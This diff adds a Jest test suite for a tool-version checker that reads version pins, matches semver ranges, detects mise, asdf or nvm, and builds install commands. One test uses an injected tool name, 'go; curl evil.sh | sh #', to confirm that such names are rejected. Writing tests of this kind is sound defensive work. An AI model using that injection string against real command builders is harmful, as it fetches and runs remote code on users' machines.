@@ -0,0 +1,312 @@
+import { jest } from '@jest/globals';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+
+declare global {
+  var TEST_DIR: string;
+}
+
+// --- Mock child_process with fake binaries ---
+const fakeBinaries = new Map<string, string>();
+
+const mockExecFileSync = jest.fn((file: string) => {
+  const output = fakeBinaries.get(file);
+  if (output === undefined) {
+    throw new Error(`spawnSync ${file} ENOENT`);
+  }
+  return output;
+});
+
+jest.unstable_mockModule('node:child_process', () => ({
+  execFileSync: mockExecFileSync,
+  execSync: jest.fn(),
+  spawn: jest.fn(),
+}));
+
+const {
+  readToolRequirements,
+  detectInstalledVersion,
+  detectToolVersions,
+  satisfiesVersion,
+  checkToolVersions,
+  formatToolCheck,
+  detectVersionManagers,
+  buildToolInstallCommands,
+  TOOLS_LABEL,
+} = await import('../../src/core/tool-versions.js');
+const { validateCommand } = await import('../../src/core/command-validator.js');
+
+// ─── Helpers ──────────────────────────────────────────────────────────────
+
+const ORIGINAL_NVM_DIR = process.env['NVM_DIR'];
+
+function makeProject(files: Record<string, string>): string {
+  const dir = path.join(
+    globalThis.TEST_DIR,
+    `tools-${Date.now()}-${Math.random().toString(36).slice(2, 8)}`,
+  );
+  fs.mkdirSync(dir, { recursive: true });
+  for (const [name, content] of Object.entries(files)) {
+    fs.writeFileSync(path.join(dir, name), content);
+  }
+  return dir;
+}
+
+beforeEach(() => {
+  fakeBinaries.clear();
+  mockExecFileSync.mockClear();
+  process.env['NVM_DIR'] = path.join(globalThis.TEST_DIR, 'no-nvm');
+});
+
+afterAll(() => {
+  if (ORIGINAL_NVM_DIR === undefined) {
+    delete process.env['NVM_DIR'];
+  } else {
+    process.env['NVM_DIR'] = ORIGINAL_NVM_DIR;
+  }
+});
+
+// ─── Tests ────────────────────────────────────────────────────────────────
+
+describe('Tool Versions', () => {
+  describe('readToolRequirements()', () => {
+    it('should read version files, .tool-versions and engines', () => {
+      const dir = makeProject({
+        '.nvmrc': 'v20.11.0\n',
+        '.python-version': '3.11\n',
+        '.tool-versions': '# managed by asdf\nnodejs 20.11.0\ngolang 1.22.0 # latest\n\n',
+        'package.json': JSON.stringify({ engines: { node: '>=18', pnpm: '^8.15.0' } }),
+      });
+
+      expect(readToolRequirements(dir)).toEqual([
+        { tool: 'node', version: 'v20.11.0', source: '.nvmrc' },
+        { tool: 'python', version: '3.11', source: '.python-version' },
+        { tool: 'node', version: '20.11.0', source: '.tool-versions' },
+        { tool: 'go', version: '1.22.0', source: '.tool-versions' },
+        { tool: 'node', version: '>=18', source: 'package.json#engines' },
+        { tool: 'pnpm', version: '^8.15.0', source: 'package.json#engines' },
+      ]);
+    });
+
+    it('should ignore missing files and invalid package.json', () => {
+      const dir = makeProject({ 'package.json': '{ not json' });
+
+      expect(readToolRequirements(dir)).toEqual([]);
+    });
+  });
+
+  describe('detectInstalledVersion()', () => {
+    it('should extract the version from the binary output', () => {
+      fakeBinaries.set('node', 'v20.11.0\n');
+      fakeBinaries.set('python3', 'Python 3.11.5\n');
+      fakeBinaries.set('go', 'go version go1.22.0 linux/amd64\n');
+
+      expect(detectInstalledVersion('node')).toBe('20.11.0');
+      expect(detectInstalledVersion('python')).toBe('3.11.5');
+      expect(detectInstalledVersion('go')).toBe('1.22.0');
+    });
+
+    it('should return null for unknown or missing tools', () => {
+      expect(detectInstalledVersion('node')).toBeNull();
+      expect(detectInstalledVersion('cobol')).toBeNull();
+      expect(mockExecFileSync).toHaveBeenCalledTimes(1);
+    });
+  });
+
+  describe('detectToolVersions()', () => {
+    it('should capture requirements and installed versions', () => {
+      fakeBinaries.set('node', 'v18.19.0\n');
+      const dir = makeProject({ '.nvmrc': '20\n', '.python-version': '3.12.1\n' });
+
+      expect(detectToolVersions(dir)).toEqual({
+        required: [
+          { tool: 'node', version: '20', source: '.nvmrc' },
+          { tool: 'python', version: '3.12.1', source: '.python-version' },
+        ],
+        installed: { node: '18.19.0' },
+      });
+    });
+
+    it('should return null when the project pins nothing', () => {
+      expect(detectToolVersions(makeProject({}))).toBeNull();
+    });
+  });
+
+  describe('satisfiesVersion()', () => {
+    it.each([
+      ['20.11.0', '20.11.0', true],
+      ['20.11.0', 'v20.11.0', true],
+      ['20.11.1', '20.11.0', false],
+      ['20.11.0', '20', true],
+      ['20.11.0', '20.x', true],
+      ['21.0.0', '20', false],
+      ['20.11.0', '>=18', true],
+      ['16.20.0', '>=18', false],
+      ['20.11.0', '>=18 <21', true],
+      ['22.1.0', '>=18 <21', false],
+      ['8.15.4', '^8.15.0', true],
+      ['9.0.0', '^8.15.0', false],
+      ['0.2.5', '^0.2.3', true],
+      ['0.3.0', '^0.2.3', false],
+      ['3.11.9', '~3.11.2', true],
+      ['3.12.0', '~3.11.2', false],
+      ['16.1.0', '^14 || ^16', true],
+      ['18.0.0', '^14 || ^16', false],
+      ['19.5.0', '18 - 20', true],
+      ['21.0.0', '18 - 20', false],
+    ])('%s satisfies %s → %s', (installed, spec, expected) => {
+      expect(satisfiesVersion(installed, spec)).toBe(expected);
+    });
+
+    it('should return null for specs it cannot check', () => {
+      expect(satisfiesVersion('20.11.0', 'lts/iron')).toBeNull();
+      expect(satisfiesVersion('3.11.0', 'system')).toBeNull();
+      expect(satisfiesVersion('unknown', '20')).toBeNull();
+    });
+
+    it('should match an understood alternative even if another is not', () => {
+      expect(satisfiesVersion('20.11.0', 'lts/* || 20')).toBe(true);
+    });
+  });
+
+  describe('checkToolVersions()', () => {
+    it('should report ok, mismatch, missing and unknown', () => {
+      const detect = jest.fn((tool: string) => (tool === 'node' ? '18.19.0' : null));
+
+      const checks = checkToolVersions(
+        [
+          { tool: 'node', version: '>=18', source: 'package.json#engines' },
+          { tool: 'node', version: '20', source: '.nvmrc' },
+          { tool: 'python', version: '3.11', source: '.python-version' },
+          { tool: 'terraform', version: '1.7.0', source: '.tool-versions' },
+        ],
+        detect,
+      );
+
+      expect(checks.map((c) => c.status)).toEqual(['ok', 'mismatch', 'missing', 'unknown']);
+      expect(checks[1]).toMatchObject({ installed: '18.19.0' });
+      // Each binary is asked once
+      expect(detect).toHaveBeenCalledTimes(2);
+    });
+  });
+
+  describe('formatToolCheck()', () => {
+    it('should describe the requirement and what was found', () => {
+      expect(
+        formatToolCheck({ tool: 'node', version: '20.11.0', source: '.nvmrc', installed: '18.19.0', status: 'mismatch' }),
+      ).toBe('node 20.11.0 required by .nvmrc — found 18.19.0');
+      expect(
+        formatToolCheck({ tool: 'python', version: '3.11', source: '.python-version', installed: null, status: 'missing' }),
+      ).toBe('python 3.11 required by .python-version — not installed');
+    });
+  });
+
+  describe('detectVersionManagers()', () => {
+    it('should list installed managers in order of preference', () => {
+      fakeBinaries.set('asdf', 'v0.14.0\n');
+      fakeBinaries.set('mise', '2024.2.0 linux-x64\n');
+      const nvmDir = path.join(globalThis.TEST_DIR, `nvm-${Date.now()}`);
+      fs.mkdirSync(nvmDir, { recursive: true });
+      fs.writeFileSync(path.join(nvmDir, 'nvm.sh'), '');
+      process.env['NVM_DIR'] = nvmDir;
+
+      expect(detectVersionManagers()).toEqual(['mise', 'asdf', 'nvm']);
+    });
+
+    it('should return nothing when no manager is installed', () => {
+      expect(detectVersionManagers()).toEqual([]);
+    });
+  });
+
+  describe('buildToolInstallCommands()', () => {
+    const nodeMismatch = {
+      tool: 'node',
+      version: 'v20.11.0',
+      source: '.nvmrc',
+      installed: '18.19.0',
+      status: 'mismatch' as const,
+    };
+    const goMissing = {
+      tool: 'go',
+      version: '1.22.0',
+      source: '.tool-versions',
+      installed: null,
+      status: 'missing' as const,
+    };
+
+    it('should use mise when available', () => {
+      const commands = buildToolInstallCommands([nodeMismatch, goMissing], {}, ['mise', 'asdf']);
+
+      expect(commands).toEqual([
+        { command: 'mise install node@20.11.0', label: TOOLS_LABEL },
+        { command: 'mise install go@1.22.0', label: TOOLS_LABEL },
+      ]);
+    });
+
+    it('should use asdf plugin names', () => {
+      const commands = buildToolInstallCommands([nodeMismatch, goMissing], {}, ['asdf']);
+
+      expect(commands.map((c) => c.command)).toEqual([
+        'asdf install nodejs 20.11.0',
+        'asdf install golang 1.22.0',
+      ]);
+    });
+
+    it('should only use nvm for node', () => {
+      process.env['NVM_DIR'] = '/home/dev/.nvm';
+
+      const commands = buildToolInstallCommands([nodeMismatch, goMissing], {}, ['nvm']);
+
+      expect(commands.map((c) => c.command)).toEqual([
+        ". '/home/dev/.nvm/nvm.sh' && nvm install 20.11.0",
+      ]);
+    });
+
+    it('should install the tracked version for a range it satisfies', () => {
+      const range = { ...goMissing, tool: 'node', version: '>=20', source: 'package.json#engines' };
+
+      expect(buildToolInstallCommands([range], { node: '20.11.0' }, ['mise'])).toEqual([
+        { command: 'mise install node@20.11.0', label: TOOLS_LABEL },
+      ]);
+      expect(buildToolInstallCommands([range], { node: '18.19.0' }, ['mise'])).toEqual([]);
+      expect(buildToolInstallCommands([range], {}, ['mise'])).toEqual([]);
+    });
+
+    it('should skip passing checks and duplicate installs', () => {
+      const commands = buildToolInstallCommands(
+        [
+          nodeMismatch,
+          { ...nodeMismatch, version: '20.11.0', source: '.tool-versions' },
+          { ...nodeMismatch, version: '>=18', status: 'ok' },
+        ],
+        {},
+        ['mise'],
+      );
+
+      expect(commands).toHaveLength(1);
+    });
+
+    it('should skip tool names that are not plain plugin names', () => {
+      const injected = { ...goMissing, tool: 'go; curl evil.sh | sh #' };
+
+      expect(buildToolInstallCommands([injected], {}, ['mise'])).toEqual([]);
+      expect(buildToolInstallCommands([injected], {}, ['asdf'])).toEqual([]);
+      expect(
+        buildToolInstallCommands([{ ...goMissing, tool: 'rust-analyzer' }], {}, ['asdf']),
+      ).toEqual([{ command: 'asdf install rust-analyzer 1.22.0', label: TOOLS_LABEL }]);
+    });
+
+    it('should produce commands that need no extra warning', () => {
+      process.env['NVM_DIR'] = '/home/dev/.nvm';
+      const commands = [
+        ...buildToolInstallCommands([nodeMismatch, goMissing], {}, ['mise']),
+        ...buildToolInstallCommands([nodeMismatch, goMissing], {}, ['asdf']),
+        ...buildToolInstallCommands([nodeMismatch], {}, ['nvm']),
+      ];
+
+      for (const { command } of commands) {
+        expect(validateCommand(command).suspicious).toBe(false);
+      }
+    });
+  });
+});